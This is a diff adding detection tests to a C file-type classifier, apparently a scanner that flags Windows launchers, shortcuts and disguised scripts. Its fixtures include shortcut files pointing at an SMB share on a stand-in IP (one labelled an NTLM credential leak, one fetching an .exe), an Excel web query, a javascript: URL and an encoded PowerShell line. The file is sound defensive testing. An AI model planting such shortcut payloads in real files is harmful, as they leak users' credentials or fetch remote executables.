@@ -159,6 +159,45 @@ t_corpus_files(void)
 		is_int(FT_OOXML, kind_file(ooxml[i]), "%s is OOXML", ooxml[i]);
 }
 
+#define R(name, text) rules_for(name, NULL, text, sizeof(text) - 1)
+
+/* Launchers and scripts by platform (issue 16), each beside a twin. */
+static void
+t_launchers(void)
+{
+	is_str("FILE_EXECUTABLE", rules_name("addin.xll"), ".xll");
+	is_str("FILE_EXECUTABLE", rules_name("app.msix"), ".msix");
+	is_str("FILE_EXECUTABLE", rules_name("App.AppxBundle"), ".appxbundle");
+	is_str("FILE_SHORTCUT", rules_name("tool.appref-ms"), ".appref-ms");
+	is_str("FILE_SHORTCUT", rules_name("Docs.searchConnector-ms"),
+	    ".searchConnector-ms (a long extension)");
+	is_str("FILE_SCRIPT", rules_name("help.chm"), ".chm");
+	is_str("FILE_SHORTCUT", R("q.iqy",
+	    "WEB\r\n1\r\nhttps://198.51.100.9/q.php\r\n"),
+	    "Excel web query with a URL");
+	is_str("FILE_SHORTCUT", R("link.website",
+	    "[InternetShortcut]\r\nURL=\\\\198.51.100.9\\s\\x.exe\r\n"),
+	    ".website to a share");
+	is_str("FILE_SHORTCUT", R("news.url",
+	    "[InternetShortcut]\r\nURL=https://www.example.com/\r\n"
+	    "IconFile=\\\\198.51.100.9\\i.ico\r\n"),
+	    ".url with an icon on a share (NTLM leak)");
+	is_str("FILE_SHORTCUT", R("x.url",
+	    "[InternetShortcut]\r\nURL=javascript:alert(1)\r\n"),
+	    ".url to a script");
+	is_str("", R("news.url",
+	    "[InternetShortcut]\r\nURL=https://www.example.com/\r\n"),
+	    "a bookmark: nothing");
+	is_str("FILE_UNIX_SCRIPT", R("fix.sh", "#!/bin/sh\necho hi\n"),
+	    "a shell script: FILE_UNIX_SCRIPT only");
+	is_str("FILE_UNIX_SCRIPT", R("notes.txt", "#!/usr/bin/perl\nprint 1;\n"),
+	    "a Perl script in a .txt");
+	is_str("FILE_SCRIPT", R("run.bat", "#!/bin/sh\necho hi\n"),
+	    "#! under a Windows script name: FILE_SCRIPT");
+	is_str("FILE_SCRIPT", R("run.txt", "#!/bin/sh\npowershell -enc AA\n"),
+	    "#! with Windows markers: FILE_SCRIPT");
+}
+
 static void
 t_rules(void)
 {
@@ -257,6 +296,7 @@ main(void)
 	t_signatures();
 	t_corpus_files();
 	t_rules();
+	t_launchers();
 	t_threads();
 	filetype_fini();
 	return done_testing();
